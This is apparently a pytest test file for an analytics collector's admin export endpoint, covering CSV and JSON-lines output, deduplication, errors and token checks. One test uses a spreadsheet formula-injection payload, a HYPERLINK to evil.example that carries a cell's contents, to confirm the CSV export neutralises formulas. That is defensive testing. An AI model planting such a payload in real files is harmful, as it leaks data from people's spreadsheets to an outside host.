"""GET /api/export: a table's rows in a period, CSV or JSON lines, behind the admin token."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid

import pytest

from collector import export
from collector.rows import EventRow
from tests.collector.conftest import ADMIN
from tests.collector.helpers import counts, event, post
from tests.conftest import refusing_client


def test_events_export_as_csv_once_each(client, store):
    retried = [event(c={"courtier": "B042"}), event("form_step", f="moto_quote", s="vehicle")]
    post(client, *retried)
    post(client, *retried)
    r = client.get("/api/export?table=events&format=csv&since=1h", headers=ADMIN)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"] == 'attachment; filename="events.csv"'
    table = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["event_id"] for row in table) == sorted(e["id"] for e in retried)
    assert {row["broker_id"] for row in table} == {"B042", ""}


def test_a_csv_cell_that_starts_like_a_formula_stays_text_in_a_spreadsheet(client):
    """A campaign is anyone's URL text: in the CSV a marketer opens, it is never run as a formula; the JSON
    lines keep it as stored."""
    trap = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    post(client, event(c={"utm_campaign": trap}), event(c={"utm_campaign": "moto-spring"}))
    r = client.get("/api/export?table=events&format=csv&since=1h", headers=ADMIN)
    table = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["utm_campaign"] for row in table) == sorted(["'" + trap, "moto-spring"])
    assert list(table[0]) == [c for c in r.text.splitlines()[0].replace('"', "").split(",")]  # the same columns
    r = client.get("/api/export?table=events&format=jsonl&since=1h", headers=ADMIN)
    assert sorted(json.loads(line)["utm_campaign"] for line in r.text.splitlines()) == sorted([trap, "moto-spring"])


def test_the_spreadsheet_rule_in_sql_is_the_same_as_in_python(store):
    from collector.output import FORMULA, spreadsheet_sql, spreadsheet_text

    for value in [c + "A1" for c in FORMULA] + ["-12.5", "+33612345678", "-1+A1", "moto", "a=b", ""]:
        (got,), = store.query(f"SELECT {spreadsheet_sql('x')} FROM (SELECT {{v:String}} AS x)",
                              parameters={"v": value}).rows
        assert got == spreadsheet_text(value), value


def test_rejected_events_export_as_json_lines(client):
    post(client, event("newsletter_signup"), event())
    r = client.get("/api/export", params={"table": "rejected_events", "format": "jsonl"}, headers=ADMIN)
    (line,) = r.text.splitlines()
    assert json.loads(line)["event"] == "newsletter_signup"


def test_an_empty_period_is_a_csv_header(client):
    post(client, event())
    r = client.get("/api/export?since=2999-01-01", headers=ADMIN)
    assert r.status_code == 200 and r.text.startswith('"event_id","event","ts"') and r.text.count("\n") == 1


def test_export_walks_the_period_a_day_at_a_time(store):
    base = dt.datetime(2026, 11, 1, 12, tzinfo=dt.timezone.utc)
    rows = []
    for day in range(3):
        when = (base + dt.timedelta(days=day)).timestamp()
        rows.append(EventRow(event_id=str(uuid.uuid4()), event="page_view", ts=when, client_ts=when, sent_at=when,
                             received_at=when, properties="{}"))
    store.insert_rows("events", rows)
    chunks = list(export.chunks(store, "events", "csv", base + dt.timedelta(hours=1)))
    assert len(chunks) == 2  # the first day started after the first event; one chunk per day with rows
    assert chunks[0].startswith(b'"event_id"') and not chunks[1].startswith(b'"event_id"')
    assert sum(c.count(b"\n") for c in chunks) == 3  # header + 2 rows


@pytest.fixture(scope="module")
def refused(databases, engine_dir, tmp_path_factory):
    """One app for the tests that take it: each request of theirs is refused before anything is read or written."""
    with refusing_client(databases, engine_dir, tmp_path_factory.mktemp("refused")) as c:
        yield c


@pytest.mark.parametrize("query, status, words", [
    ("table=schema_migrations", 400, 'table "schema_migrations" cannot be exported; use one of events'),
    ("format=xlsx", 400, 'format "xlsx" is not known; use csv or jsonl'),
    ("since=soon", 400, 'since: "soon" is not a time'),
    ("until=later", 400, 'until: "later" is not a time'),
])
def test_export_errors(refused, query, status, words):
    r = refused.get(f"/api/export?{query}", headers=ADMIN)
    assert r.status_code == status and words in r.json()["error"]


def test_export_needs_the_token(refused):
    assert refused.get("/api/export").status_code == 401


def test_events_still_land_after_an_export_and_a_read_only_query(client, store):
    # The embedded engine keeps some per-query settings on its session: readonly must not leak into inserts.
    post(client, event())
    assert client.get("/api/export", headers=ADMIN).status_code == 200
    assert client.post("/api/sql", content="SELECT 1", headers=ADMIN).status_code == 200
    assert counts(post(client, event())) == {"accepted": 1, "rejected": 0}
    assert client.get("/api/export?format=jsonl", headers=ADMIN).text.count("\n") == 2
